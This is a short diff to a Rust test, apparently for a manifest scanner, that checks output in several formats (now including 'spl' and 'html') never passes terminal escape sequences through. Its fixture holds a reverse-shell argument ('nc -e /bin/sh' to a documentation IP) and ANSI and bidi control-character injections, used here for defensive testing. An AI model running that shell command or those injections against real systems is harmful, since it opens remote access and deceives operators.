@@ -10,7 +10,7 @@ fn nothing_reaches_the_terminal_as_a_command() {
                containers: [{name: \"\\e]0;x\\a\", image: \"alpine\\e[1m\", args: [\"nc -e /bin/sh 192.0.2.1 1\\e[2J\"]}]}}}\n";
     let folder =
         Folder::with(&[("x\u{1b}[31m\nb\u{202e}.yaml", job), ("bad\u{7}.yaml", "\"\u{7f}\\e[2J\": [\n")]);
-    for format in ["table", "json", "sarif", "junit"] {
+    for format in ["table", "json", "sarif", "junit", "spl", "html"] {
         let output = folder.scan(&["--format", format, "--min-severity", "none", "."]);
         assert_eq!(output.code, 2);
         for text in [&output.stdout, &output.stderr] {
